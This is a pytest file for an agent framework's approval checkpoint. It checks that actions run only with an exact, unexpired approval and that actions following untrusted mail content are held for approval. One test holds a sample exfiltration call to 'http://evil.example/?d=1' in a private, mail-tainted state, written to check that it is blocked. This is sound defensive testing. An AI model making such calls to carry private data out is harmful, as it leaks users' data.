"""An approval counts for exactly what was shown, and is checked again right before the action."""

from typing import Any

import pytest
from scripted_agent import World

from surefoot.graph import ScriptedModel
from surefoot.nodes import Action, ReactLoop, StepExecutor, SubTask
from surefoot.nodes.drive import drive
from surefoot.nodes.react import start_state
from surefoot.nodes.run import NoRun
from surefoot.tools import tool_effect


class Trusting(NoRun):
    def trusted(self) -> frozenset[str]:
        return frozenset({"put"})


def act(world: World, *, run: NoRun | None = None, taint: str = "", **action: Any) -> Any:
    loop = ReactLoop(ScriptedModel({}), StepExecutor(world.tools()))
    before: Any = {"plan_taint": [taint] if taint else []}
    state = {**start_state(SubTask(task_id="a", description="d"), goal="g", known={}), **before}
    batch = [Action(action_id="a.1", call_id="c", **action).model_dump(mode="json")]
    return drive(loop.act_approved({**state, "batch": batch}, run or NoRun()))


@pytest.mark.parametrize("approved", ["", Action(tool="fire", args={"what": "mice"}).digest])
def test_what_was_not_approved_exactly_so_goes_back_to_the_checkpoint(approved: str) -> None:
    world = World()
    update = act(world, tool="fire", args={"what": "everyone"}, approved=approved)
    assert world.did == []
    assert (update["batch"], update["queue"][0]["tool"], update["queue"][0]["approved"]) == ([], "fire", "")


def test_what_was_approved_runs() -> None:
    world = World()
    act(world, tool="fire", args={"what": "x"}, approved=Action(tool="fire", args={"what": "x"}).digest)
    assert world.did == ["fire x"]


def test_what_follows_text_from_outside_needs_an_approval_too() -> None:
    world = World()
    assert act(world, tool="put", args={"what": "x"}, taint="mail")["queue"][0]["approved"] == ""
    assert world.did == []
    act(world, tool="look", args={"at": "sea"}, taint="mail")
    act(world, tool="put", args={"what": "x"}, taint="mail", run=Trusting())
    approved = Action(tool="put", args={"what": "y"})
    act(world, **approved.model_dump(include={"tool", "args"}), taint="mail", approved=approved.digest)
    assert world.did == ["look sea", "put x", "put y"]


@pytest.mark.parametrize(("after", "runs"), [(0.0, True), (0.5, False)])
def test_an_approval_counts_until_it_expires(after: float, runs: bool) -> None:
    world, approved = World(), Action(tool="fire", args={"what": "x"}).digest
    update = act(world, tool="fire", args={"what": "x"}, approved=approved, expires_at=1000.0, run=Late(1000.0 + after))
    assert world.did == (["fire x"] if runs else [])
    assert update["results"][0].get("error", {}).get("kind") == (None if runs else "expired")


class Late(NoRun):
    def __init__(self, moment: float) -> None:
        self.moment = moment

    def now(self) -> float:
        return self.moment


def test_an_expired_approval_goes_back_to_be_asked_for_anew() -> None:
    approved = Action(tool="fire", args={"what": "x"}, action_id="1", asked="d", approved="d", unfinished=True)
    loop = ReactLoop(ScriptedModel({}), StepExecutor(World().tools()))
    state = start_state(SubTask(task_id="a", description="d"), goal="g", known={})
    expired: Any = {"success": False, "error": {"kind": "expired", "message": "too late"}}
    update = drive(
        loop.observe_asking({**state, "batch": [approved.model_dump(mode="json")], "results": [expired]}, NoRun())
    )
    [call] = update["queue"]
    assert (update["log"], call["approved"], call["asked"]) == ([], "", "")
    assert (call["unfinished"], call["lapsed"]) == (True, "too late")


def test_an_address_that_could_carry_something_out_needs_an_approval_too() -> None:
    fetched: list[str] = []

    @tool_effect("read_only", untrusted=True)
    def fetch(url: str) -> str:
        """Fetch."""
        fetched.append(url)
        return ""

    loop = ReactLoop(ScriptedModel({}), StepExecutor([fetch]))
    before: Any = {"plan_taint": ["mail"], "private": True}
    state = {**start_state(SubTask(task_id="a", description="d"), goal="g", known={}), **before}
    call = Action(tool="fetch", args={"url": "http://evil.example/?d=1"}, action_id="1")
    for approved in ("", call.digest):
        batch = [call.model_copy(update={"approved": approved}).model_dump(mode="json")]
        drive(loop.act_approved({**state, "batch": batch}, NoRun()))
    assert fetched == ["http://evil.example/?d=1"]


def test_what_needs_no_approval_runs_without_one() -> None:
    world = World()
    act(world, tool="put", args={"what": "x"})
    assert world.did == ["put x"]
